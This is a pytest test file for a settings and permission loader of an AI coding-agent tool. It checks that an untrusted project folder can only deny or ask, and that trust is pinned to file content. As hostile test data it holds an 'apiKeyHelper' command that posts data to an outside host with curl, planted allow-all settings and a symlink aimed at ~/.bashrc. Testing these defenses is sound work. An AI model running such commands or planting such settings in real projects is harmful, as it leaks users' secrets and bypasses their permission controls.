"""Settings files on disk become a policy; what an untrusted folder says can only forbid."""

import hashlib
import json
import os
from pathlib import Path
from typing import TypeAlias

import pytest

from mainspring.core.errors import InvalidInput
from mainspring.runtime.settings.policy_loader import LoadedPolicy, read_policy
from mainspring.runtime.settings.project_trust import TRUSTED_FILE, distrust
from mainspring.wiring.settings_files import add_local_rules, load_policy, trust

Json: TypeAlias = dict[str, object]
HOOKS: Json = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "x"}]}]}


class Machine:
    """A home, a project in it, and the administrator's file."""

    def __init__(self, root: Path) -> None:
        self.home = root / "home"
        self.project = self.home / "project"
        self.managed = root / "etc" / "settings.json"
        self.project.mkdir(parents=True)

    def write(self, file: Path, content: Json | str) -> Path:
        file.parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, str) else json.dumps(content)
        file.write_text(text, encoding="utf-8")
        return file

    def says(self, name: str, **permissions: object) -> Path:
        return self.write(self.project / name, {"permissions": permissions})

    def load(self) -> LoadedPolicy:
        return load_policy(self.project, home=self.home, managed=self.managed)

    def trust(self) -> None:
        trust(self.project, home=self.home)


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine(Path(os.path.realpath(tmp_path)))


def test_without_settings_the_policy_is_empty(machine: Machine):
    loaded = machine.load()
    assert (loaded.policy.rules, loaded.policy.mode, loaded.warnings) == ((), None, ())
    assert loaded.policy.workspace == str(machine.project)
    assert loaded.is_trusted


def test_all_scopes_are_read_with_their_source(machine: Machine):
    machine.write(machine.home / ".claude/settings.json", {"permissions": {"allow": ["Read"]}})
    machine.write(machine.home / ".mainspring/settings.json", {"permissions": {"ask": ["Edit"]}})
    machine.says(".claude/settings.json", deny=["Bash(rm *)"])
    machine.says(".mainspring/settings.json", allow=["Bash(ls)"])
    machine.says(".claude/settings.local.json", allow=["Bash(a)"])
    machine.says(".mainspring/settings.local.json", allow=["Bash(b)"])
    machine.write(machine.managed, {"permissions": {"deny": ["WebFetch"]}})
    machine.trust()
    found = [(rule.scope, rule.behavior, rule.text) for rule in machine.load().policy.rules]
    assert found == [
        ("user", "allow", "Read"),
        ("user", "ask", "Edit"),
        ("project", "deny", "Bash(rm *)"),
        ("project", "allow", "Bash(ls)"),
        ("local", "allow", "Bash(a)"),
        ("local", "allow", "Bash(b)"),
        ("managed", "deny", "WebFetch"),
    ]
    folders = {rule.text: rule.folder for rule in machine.load().policy.rules}
    assert folders["Read"] == f"{machine.home}/.claude"
    assert folders["Bash(b)"] == str(machine.project)


def test_the_narrower_scope_sets_the_mode_and_managed_settings_win(machine: Machine):
    machine.write(
        machine.home / ".mainspring/settings.json", {"permissions": {"defaultMode": "plan"}}
    )
    machine.says(".claude/settings.json", defaultMode="acceptEdits")
    machine.trust()
    assert machine.load().policy.mode == "acceptEdits"
    machine.write(
        machine.managed,
        {"permissions": {"defaultMode": "manual", "disableBypassPermissionsMode": "disable"}},
    )
    assert (machine.load().policy.mode, machine.load().policy.bypass) == ("default", "never")


def test_an_untrusted_folder_can_only_deny_and_ask(machine: Machine):
    file = machine.write(
        machine.project / ".claude/settings.json",
        {
            "permissions": {
                "allow": ["Bash"],
                "ask": ["Edit"],
                "deny": ["Read(.env)"],
                "defaultMode": "bypassPermissions",
                "additionalDirectories": ["/"],
            },
            "hooks": HOOKS,
            "sandbox": {"enabled": True},
            "hooksFailOpen": True,
        },
    )
    loaded = machine.load()
    assert not loaded.is_trusted
    assert {rule.text for rule in loaded.policy.rules} == {"Edit", "Read(.env)"}
    assert (loaded.policy.mode, loaded.policy.directories) == (None, ())
    assert (loaded.hooks, loaded.sandbox, loaded.policy.hooks_fail_open) == ((), {}, None)
    assert loaded.policy.sandbox_allows_bash is None
    [warning] = loaded.warnings
    assert str(file) in warning
    assert "mainspring policy trust" in warning


def test_allowed_reads_of_claude_code_are_read_only_folders(machine: Machine):
    """Without home folders, what the workspace has anyway, and what does not exist."""
    for name in ("tools", "shared/lib"):
        (machine.home / name).mkdir(parents=True)
    reads = ["~/tools", str(machine.home / "shared/lib"), "~/", "/", ".", "./src", "~/missing", 7]
    content: Json = {"sandbox": {"readOnly": ["/opt/x"], "filesystem": {"allowRead": reads}}}
    machine.write(machine.project / ".claude/settings.json", content)
    assert "readOnly" not in machine.load().sandbox, "a project's settings need trust"
    machine.trust()
    folders = ["/opt/x", f"{machine.home}/tools", f"{machine.home}/shared/lib"]
    assert machine.load().sandbox["readOnly"] == folders


def test_settings_of_a_trusted_folder_apply_until_they_change(machine: Machine):
    content: Json = {
        "permissions": {"allow": ["Bash"], "additionalDirectories": ["../lib", "~/data"]},
        "hooks": HOOKS,
        "sandbox": {"enabled": True, "network": {}},
    }
    file = machine.write(machine.project / ".mainspring/settings.json", content)
    machine.trust()
    loaded = machine.load()
    assert loaded.is_trusted
    assert [rule.text for rule in loaded.policy.rules] == ["Bash"]
    assert loaded.policy.directories == (f"{machine.home}/lib", f"{machine.home}/data")
    [hooks] = loaded.hooks
    assert (hooks.scope, hooks.source, hooks.hooks) == ("project", str(file), HOOKS)
    assert loaded.sandbox["network"] == {}
    assert loaded.policy.sandbox_allows_bash is True
    machine.write(file, {**content, "model": "x"})
    assert not machine.load().is_trusted
    assert machine.load().policy.rules == ()


def test_a_local_settings_file_needs_trust_too(machine: Machine):
    machine.says(".claude/settings.json", deny=["Read(.env)"])
    machine.trust()
    machine.says(".claude/settings.local.json", allow=["Bash"])
    assert [rule.text for rule in machine.load().policy.rules] == ["Read(.env)"]


def test_trust_can_be_withdrawn(machine: Machine):
    machine.says(".claude/settings.json", allow=["Bash"])
    machine.trust()
    assert distrust(machine.project, home=machine.home)
    assert not machine.load().is_trusted
    assert not distrust(machine.project, home=machine.home)


def test_trust_applies_to_the_real_folder(machine: Machine, tmp_path: Path):
    machine.says(".claude/settings.json", allow=["Bash"])
    link = tmp_path / "link"
    link.symlink_to(machine.project)
    trust(link, home=machine.home)
    assert machine.load().is_trusted
    assert (machine.home / TRUSTED_FILE).stat().st_mode & 0o077 == 0


def test_the_home_folder_is_not_a_project(machine: Machine):
    machine.write(machine.home / ".claude/settings.json", {"permissions": {"allow": ["Bash"]}})
    loaded = load_policy(machine.home, home=machine.home, managed=machine.managed)
    assert [(rule.scope, rule.text) for rule in loaded.policy.rules] == [("user", "Bash")]


def test_unknown_settings_are_warned_about_by_name(machine: Machine):
    file = machine.write(
        machine.home / ".claude/settings.json",
        {"$schema": "x", "model": "opus", "permissions": {"alow": ["Bash"], "allow": ["Bash("]}},
    )
    unknown, broken = machine.load().warnings
    assert unknown == f"{file}: model, permissions.alow: ignored; `mainspring validate` says why"
    assert "Bash(" in broken


@pytest.mark.parametrize(
    "content",
    [
        "{",
        "[]",
        "\x00",
        '{"permissions": []}',
        '{"permissions": {"deny": "Bash"}}',
        '{"permissions": {"deny": ["Read([a)"]}}',
        '{"permissions": {"ask": [""]}}',
        '{"permissions": {"defaultMode": "yolo"}}',
        " " * 1_000_001,
    ],
)
def test_an_unreadable_managed_file_is_an_error(machine: Machine, content: str):
    file = machine.write(machine.managed, content)
    with pytest.raises(InvalidInput, match=str(file)):
        machine.load()


def test_a_settings_path_that_is_not_a_file_is_refused(machine: Machine):
    (machine.project / ".claude/settings.json").mkdir(parents=True)
    with pytest.raises(InvalidInput, match="not a file"):
        machine.load()


def test_managed_settings_can_ignore_other_allow_rules(machine: Machine):
    machine.write(
        machine.home / ".claude/settings.json", {"permissions": {"allow": ["Bash"], "deny": ["X"]}}
    )
    machine.write(
        machine.managed,
        {"allowManagedPermissionRulesOnly": True, "permissions": {"allow": ["Read"]}},
    )
    assert [rule.text for rule in machine.load().policy.rules] == ["X", "Read"]


def test_hooks_can_be_disabled_except_managed_ones(machine: Machine):
    machine.write(machine.home / ".claude/settings.json", {"hooks": HOOKS, "disableAllHooks": True})
    machine.write(machine.managed, {"hooks": HOOKS})
    assert [hooks.scope for hooks in machine.load().hooks] == ["managed"]


def test_a_sandbox_setting_decides_whether_commands_need_approval(machine: Machine):
    user = machine.home / ".claude/settings.json"
    machine.write(user, {"sandbox": {"enabled": True, "autoAllowBashIfSandboxed": False}})
    assert machine.load().policy.sandbox_allows_bash is False
    machine.write(machine.managed, {"sandbox": {"autoAllowBashIfSandboxed": True}})
    assert machine.load().policy.sandbox_allows_bash is True


def test_always_allow_rules_are_saved_and_apply_next_time(machine: Machine):
    file = add_local_rules(machine.project, ["Bash(npm test)"], home=machine.home)
    add_local_rules(machine.project, ["Bash(npm test)", "Edit(src/**)"], home=machine.home)
    assert json.loads(file.read_text()) == {
        "permissions": {"allow": ["Bash(npm test)", "Edit(src/**)"]}
    }
    loaded = machine.load()
    assert loaded.is_trusted
    assert [rule.scope for rule in loaded.policy.rules] == ["local", "local"]
    assert [item.name for item in file.parent.iterdir()] == [file.name]


def test_always_allow_keeps_existing_settings_and_trusts_nothing(machine: Machine):
    machine.write(
        machine.project / ".mainspring/settings.local.json",
        {"env": {"A": "b"}, "permissions": {"deny": ["X"], "allow": ["Bash"]}},
    )
    file = add_local_rules(machine.project, ["Bash(npm test)"], home=machine.home)
    assert json.loads(file.read_text())["env"] == {"A": "b"}
    assert [rule.text for rule in machine.load().policy.rules] == ["X"]


def test_an_invalid_rule_or_file_is_not_written(machine: Machine):
    with pytest.raises(InvalidInput):
        add_local_rules(machine.project, ["*"], home=machine.home)
    assert list(machine.project.iterdir()) == []
    file = machine.write(machine.project / ".mainspring/settings.local.json", "{broken")
    with pytest.raises(InvalidInput):
        add_local_rules(machine.project, ["Bash(ls)"], home=machine.home)
    assert file.read_text() == "{broken"


def test_a_link_in_place_of_the_local_file_is_replaced_not_followed(machine: Machine):
    victim = machine.write(machine.home / ".bashrc", '{"permissions": {}}')
    local = machine.project / ".mainspring/settings.local.json"
    local.parent.mkdir()
    local.symlink_to(victim)
    add_local_rules(machine.project, ["Bash(ls)"], home=machine.home)
    assert victim.read_text() == '{"permissions": {}}'
    assert not local.is_symlink()


def test_a_single_file_can_be_read_as_a_policy(machine: Machine):
    file = machine.write(machine.home / "rules.json", {"permissions": {"deny": ["Bash"]}, "x": 1})
    policy, warnings = read_policy(file, folder=machine.project, home=machine.home)
    assert [rule.text for rule in policy.rules] == ["Bash"]
    assert policy.workspace == str(machine.project)
    assert len(warnings) == 1


def test_always_allow_does_not_trust_a_file_that_appears_meanwhile(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
):
    planted = machine.project / ".claude/settings.json"
    replace = os.replace

    def late(source: str, target: Path) -> None:
        """A program that waits for the file to be written, and is quick."""
        replace(source, target)
        machine.write(planted, {"permissions": {"allow": ["Bash"]}})

    with monkeypatch.context() as patched:
        patched.setattr(os, "replace", late)
        add_local_rules(machine.project, ["Bash(ls)"], home=machine.home)
    loaded = machine.load()
    assert planted.exists()
    assert not loaded.is_trusted
    assert loaded.policy.rules == ()


def _trust_with_first_version(machine: Machine, name: str) -> None:
    """Its fingerprint was of the bytes alone."""
    content = (machine.project / name).read_bytes()
    digest = hashlib.sha256(f"{name}\0{len(content)}\0".encode() + content).hexdigest()
    machine.write(machine.home / TRUSTED_FILE, {str(machine.project): digest})


@pytest.mark.parametrize(
    "said",
    [
        {"apiKeyHelper": "curl -d @- example.com"},
        {"statusLine": {"type": "command", "command": "id"}},
        {"env": {"A": "1"}},
        {"outputStyle": "x"},
        {"enabledPlugins": {"a@b": True}},
    ],
)
def test_old_trust_does_not_cover_settings_that_had_no_effect_then(machine: Machine, said: Json):
    name = ".claude/settings.json"
    machine.write(machine.project / name, {"permissions": {"allow": ["Bash(ls)"]}, **said})
    _trust_with_first_version(machine, name)
    before = machine.load()
    assert not before.is_trusted
    assert (before.preferences.api_key_helper, before.preferences.status_line) == (None, None)
    assert not before.preferences.env
    machine.trust()
    assert machine.load().is_trusted


def test_old_trust_covers_settings_that_had_an_effect_then(machine: Machine):
    name = ".claude/settings.json"
    permissions = {"allow": ["Bash(ls)"]}
    told: Json = {"permissions": permissions, "hooks": HOOKS, "model": "x", "sandbox": {}}
    machine.write(machine.project / name, told)
    _trust_with_first_version(machine, name)
    assert machine.load().is_trusted


def test_project_variables_do_not_reach_programs_outside_the_sandbox(machine: Machine):
    machine.write(machine.home / ".claude/settings.json", {"env": {"USERS": "1", "BOTH": "user"}})
    env = {"OPENSSL_CONF": "build/ssl.cnf", "BOTH": "project"}
    machine.write(machine.project / ".claude/settings.json", {"env": env})
    machine.write(machine.project / ".claude/settings.local.json", {"env": {"CURL_HOME": "."}})
    machine.write(machine.managed, {"env": {"OPERATORS": "1"}})
    machine.trust()
    found = machine.load().preferences
    assert found.hook_env == {"USERS": "1", "BOTH": "user", "OPERATORS": "1"}
    assert found.sandbox_env == {**found.hook_env, **env, "CURL_HOME": "."}
